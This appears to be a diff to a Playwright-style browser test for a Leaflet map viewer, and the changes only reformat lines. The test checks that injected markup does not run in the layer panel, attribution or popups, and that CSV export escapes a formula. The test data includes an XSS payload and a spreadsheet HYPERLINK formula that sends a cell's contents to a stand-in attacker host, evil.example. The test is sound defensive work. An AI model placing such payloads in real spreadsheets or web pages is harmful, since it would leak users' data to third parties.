@@ -39,13 +39,23 @@ const propertyName = '<b onmouseover=window.__xss=1>tên</b>';
 /** A cell a spreadsheet program would run (it sends A1 to another site when the sheet opens). */
 const formula = '=HYPERLINK("http://evil.example/?d="&A1,"xem")';
 
-type TestWindow = Window & { __xss?: unknown; viewerStats: { ready: boolean; layers: string[] }; viewerMap: import('leaflet').Map };
+type TestWindow = Window & {
+  __xss?: unknown;
+  viewerStats: { ready: boolean; layers: string[] };
+  viewerMap: import('leaflet').Map;
+};
 
 /** A square of `sideM` metres around a point, as a GeoJSON polygon. */
 function square(lon: number, lat: number, sideM: number): Polygon {
   const dLat = sideM / 2 / 111_320;
   const dLon = dLat / Math.cos((lat * Math.PI) / 180);
-  const ring = [[lon - dLon, lat - dLat], [lon + dLon, lat - dLat], [lon + dLon, lat + dLat], [lon - dLon, lat + dLat], [lon - dLon, lat - dLat]];
+  const ring = [
+    [lon - dLon, lat - dLat],
+    [lon + dLon, lat - dLat],
+    [lon + dLon, lat + dLat],
+    [lon - dLon, lat + dLat],
+    [lon - dLon, lat - dLat],
+  ];
   return { type: 'Polygon', coordinates: [ring] };
 }
 
@@ -62,7 +72,10 @@ forEachBackend('hostile text in every page of a browser', (server, backend: Back
 
   const shot = async (name: string) => {
     step++;
-    await page.screenshot({ path: path.join(screenshotDir, `xss-${backend}-${String(step).padStart(2, '0')}-${name}.png`), fullPage: true });
+    await page.screenshot({
+      path: path.join(screenshotDir, `xss-${backend}-${String(step).padStart(2, '0')}-${name}.png`),
+      fullPage: true,
+    });
   };
 
   /** Asserts that no injected script ran in the current page. */
@@ -89,7 +102,9 @@ forEachBackend('hostile text in every page of a browser', (server, backend: Back
     this.timeout(60_000);
     await dropUploadedLayer(server(), layerId);
     admin = await tokenFor(server(), 'admin', `Quản trị ${hostile.img}`);
-    const communes = (await (await fetch(`${server().url}/collections/admin_communes_2025/items?limit=1`)).json()) as { features: Feature[] };
+    const communes = (await (await fetch(`${server().url}/collections/admin_communes_2025/items?limit=1`)).json()) as {
+      features: Feature[];
+    };
     centre = pointOnFeature(communes.features[0]).geometry.coordinates as [number, number];
     browser = await openClosedNetworkBrowser({ width: 1400, height: 900 });
     ({ page, blocked, pageErrors } = browser);
@@ -174,15 +189,24 @@ forEachBackend('hostile text in every page of a browser', (server, backend: Back
     expect(await row.locator('.legend').textContent()).to.contain(legendLabel);
     expect(await row.locator('.legend').textContent()).to.contain(hostile.img);
     const attributionBox = page.locator('.leaflet-control-attribution');
-    await page.waitForFunction((s) => document.querySelector('.leaflet-control-attribution')?.textContent?.includes(s), hostile.script);
-    expect(await attributionBox.locator('a', { hasText: 'example.org' }).getAttribute('href')).to.equal('https://example.org/nguon');
-    const injected = '#layer-panel img, #layer-panel script, #layer-panel svg, .leaflet-control-attribution script, .leaflet-control-attribution img';
+    await page.waitForFunction(
+      (s) => document.querySelector('.leaflet-control-attribution')?.textContent?.includes(s),
+      hostile.script,
+    );
+    expect(await attributionBox.locator('a', { hasText: 'example.org' }).getAttribute('href')).to.equal(
+      'https://example.org/nguon',
+    );
+    const injected =
+      '#layer-panel img, #layer-panel script, #layer-panel svg, .leaflet-control-attribution script, .leaflet-control-attribution img';
     expect(await page.locator(injected).count()).to.equal(0);
 
     // The popup of the feature at the centre.
     await page.waitForTimeout(1000);
     const box = (await page.locator('#map').boundingBox())!;
-    const p = await page.evaluate(([la, lo]) => (window as TestWindow).viewerMap.latLngToContainerPoint([la, lo]), [lat, lon + 0.0006]);
+    const p = await page.evaluate(
+      ([la, lo]) => (window as TestWindow).viewerMap.latLngToContainerPoint([la, lo]),
+      [lat, lon + 0.0006],
+    );
     await page.mouse.click(box.x + p.x, box.y + p.y);
     const section = page.locator(`.leaflet-popup-content section[data-layer="${layerId}"]`);
     await section.waitFor({ timeout: 15_000 });
@@ -192,7 +216,9 @@ forEachBackend('hostile text in every page of a browser', (server, backend: Back
     expect(popup).to.contain(hostile.img); // the category label
     expect(popup).to.contain(hostile.svg); // `ten`
     expect(popup).to.contain(hostile.attr); // the value of the hostile attribute name
-    expect(await page.locator('.leaflet-popup-content img, .leaflet-popup-content script, .leaflet-popup-content svg').count()).to.equal(0);
+    expect(
+      await page.locator('.leaflet-popup-content img, .leaflet-popup-content script, .leaflet-popup-content svg').count(),
+    ).to.equal(0);
     await page.evaluate(() => (window as TestWindow).viewerMap.closePopup());
 
     // Search finds the layer by its title and lists it as text.
@@ -225,7 +251,12 @@ forEachBackend('hostile text in every page of a browser', (server, backend: Back
     const [download] = await Promise.all([page.waitForEvent('download'), summary.locator('button.csv').click()]);
     const csv = fs.readFileSync((await download.path())!, 'utf8');
     expect(csv).to.contain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""xem"")"`);
-    expect(csv.split('\r\n').slice(1).some((line) => line.startsWith('='))).to.equal(false);
+    expect(
+      csv
+        .split('\r\n')
+        .slice(1)
+        .some((line) => line.startsWith('=')),
+    ).to.equal(false);
     await noScriptRan();
   });
 
